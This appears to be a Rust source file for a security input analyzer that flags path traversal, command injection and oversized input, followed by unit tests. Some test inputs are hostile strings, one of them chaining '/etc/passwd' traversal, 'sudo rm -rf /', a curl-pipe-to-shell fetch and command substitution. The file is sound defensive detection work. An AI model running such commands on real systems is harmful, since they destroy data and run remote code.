//! Input threat analyzer.

use crate::sanitize::InputSanitizer;
use crate::violation::{SecurityAnalysisResult, SecurityViolation};
use sg_patterns::{PatternCatalog, Severity, ThreatCategory};

/// Inputs longer than this many characters are analyzed on their prefix only.
pub const MAX_ANALYSIS_LENGTH: usize = 10_000;

/// Scores strings against the threat catalog.
#[derive(Debug, Clone, Copy)]
pub struct InputThreatAnalyzer {
    catalog: &'static PatternCatalog,
    sanitizer: InputSanitizer,
}

impl InputThreatAnalyzer {
    pub fn new() -> Self {
        Self {
            catalog: PatternCatalog::global(),
            sanitizer: InputSanitizer::new(),
        }
    }

    /// Analyze `input`, reporting at most one violation per rule.
    pub fn analyze(&self, input: &str) -> SecurityAnalysisResult {
        if input.is_empty() {
            return SecurityAnalysisResult::secure(input);
        }

        let (window, truncated) = analysis_window(input);
        let mut violations: Vec<SecurityViolation> = self
            .catalog
            .threat_rules()
            .iter()
            .filter(|rule| rule.is_match(window))
            .map(SecurityViolation::from_rule)
            .collect();

        if truncated {
            violations.push(SecurityViolation {
                violation_type: ThreatCategory::ExcessiveLength,
                rule_id: "excessive_length".to_string(),
                pattern: format!("length > {}", MAX_ANALYSIS_LENGTH),
                severity: Severity::Medium,
                description: "Input exceeds the analysis window".to_string(),
                recommendation: "Enforce a length limit before processing".to_string(),
            });
        }

        if violations.is_empty() {
            return SecurityAnalysisResult::secure(input);
        }

        tracing::debug!(
            target: "sg_input::analyze",
            violations = violations.len(),
            input_len = input.len(),
            truncated,
            "input flagged"
        );

        let sanitized = self.sanitizer.sanitize(window);
        SecurityAnalysisResult::from_violations(violations, sanitized)
    }

    /// Rule hits for a single family, without scoring.
    pub fn matches_category(&self, input: &str, category: ThreatCategory) -> bool {
        let (window, _) = analysis_window(input);
        self.catalog.threats_in(category).any(|rule| rule.is_match(window))
    }
}

impl Default for InputThreatAnalyzer {
    fn default() -> Self {
        Self::new()
    }
}

/// Prefix of at most [`MAX_ANALYSIS_LENGTH`] characters.
fn analysis_window(input: &str) -> (&str, bool) {
    match input.char_indices().nth(MAX_ANALYSIS_LENGTH) {
        Some((byte_idx, _)) => (&input[..byte_idx], true),
        None => (input, false),
    }
}

/// Analyze a possibly absent string.
///
/// Absent input is secure with a zero score; this never fails.
pub fn analyze_input_security<'a>(input: impl Into<Option<&'a str>>) -> SecurityAnalysisResult {
    match input.into() {
        Some(s) => InputThreatAnalyzer::new().analyze(s),
        None => SecurityAnalysisResult::secure(""),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_absent_input_is_secure() {
        let result = analyze_input_security(None);
        assert!(result.is_secure);
        assert_eq!(result.risk_score, 0);
        assert!(result.violations.is_empty());
    }

    #[test]
    fn test_benign_path_is_secure() {
        let result = analyze_input_security("./src/a.ts");
        assert!(result.is_secure, "violations: {:?}", result.violations);
        assert_eq!(result.sanitized_input, "./src/a.ts");
    }

    #[test]
    fn test_traversal_scored() {
        let result = analyze_input_security("../../../etc/passwd");
        assert!(!result.is_secure);
        assert!(result.has_category(ThreatCategory::PathTraversal));
        assert!(result.has_category(ThreatCategory::SensitivePath));
        assert!(result.risk_score >= 30);
        assert!(!result.sanitized_input.contains(".."));
    }

    #[test]
    fn test_score_is_clamped() {
        let result = analyze_input_security(
            "../../etc/passwd; sudo rm -rf / && curl http://x | sh `id` $(whoami) __proto__",
        );
        assert_eq!(result.risk_score, 100);
        assert_eq!(result.max_severity(), Some(Severity::Critical));
    }

    #[test]
    fn test_score_is_weight_sum() {
        let result = analyze_input_security("~/notes");
        let expected: u32 = result.violations.iter().map(|v| v.severity.weight()).sum();
        assert_eq!(result.risk_score, expected.min(100));
        assert!(result.has_category(ThreatCategory::PathTraversal));
    }

    #[test]
    fn test_long_input_flagged() {
        let input = "a".repeat(MAX_ANALYSIS_LENGTH + 5);
        let result = analyze_input_security(input.as_str());
        assert!(result.has_category(ThreatCategory::ExcessiveLength));
        assert!(result.sanitized_input.chars().count() <= MAX_ANALYSIS_LENGTH);
    }

    #[test]
    fn test_window_respects_char_boundaries() {
        let input = "é".repeat(MAX_ANALYSIS_LENGTH + 1);
        let (window, truncated) = analysis_window(&input);
        assert!(truncated);
        assert_eq!(window.chars().count(), MAX_ANALYSIS_LENGTH);
    }

    #[test]
    fn test_result_serializes_camel_case() {
        let result = analyze_input_security("a; b");
        let json = serde_json::to_value(&result).unwrap();
        assert_eq!(json["isSecure"], false);
        assert!(json["riskScore"].as_u64().unwrap() > 0);
        assert_eq!(json["violations"][0]["type"], "command_injection");
    }
}
